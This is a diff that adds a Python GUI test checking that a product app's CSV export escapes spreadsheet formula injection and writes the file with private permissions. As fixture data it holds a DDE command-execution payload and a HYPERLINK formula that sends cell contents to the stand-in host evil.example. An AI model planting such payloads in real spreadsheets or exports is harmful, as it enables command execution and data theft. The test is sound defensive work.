@@ -164,3 +164,27 @@ def test_hs_search_fills_the_product_code(qtbot, window, idle):
     assert dialog.edits["hs_code"].text() == "620520"
     dialog.reject()
     idle(window)
+
+
+def test_export_from_the_screen_writes_formulas_as_text_in_a_private_file(
+        qtbot, window, home, tmp_path, idle):
+    import os
+    import stat
+
+    view = window.products
+    window.ctx.products.save(Product(
+        "=CMD|' /C calc'!A0", '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez ici")',
+        "+Scented candle in glass jar", "340600", "FR", 250, Decimal("18.00")))
+    out = tmp_path / "export.csv"
+    old = os.umask(0o002)
+    try:
+        with qtbot.waitSignal(view.exported, timeout=10_000):
+            view.export_file(str(out))
+    finally:
+        os.umask(old)
+    (row,) = out.read_text(encoding="utf-8-sig").splitlines()[1:]
+    assert row.startswith("'=CMD|' /C calc'!A0;")
+    assert ";\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1;\"\"Cliquez ici\"\")\";" in row
+    assert ";'+Scented candle in glass jar;" in row
+    assert stat.S_IMODE(out.stat().st_mode) == 0o600
+    idle(window)
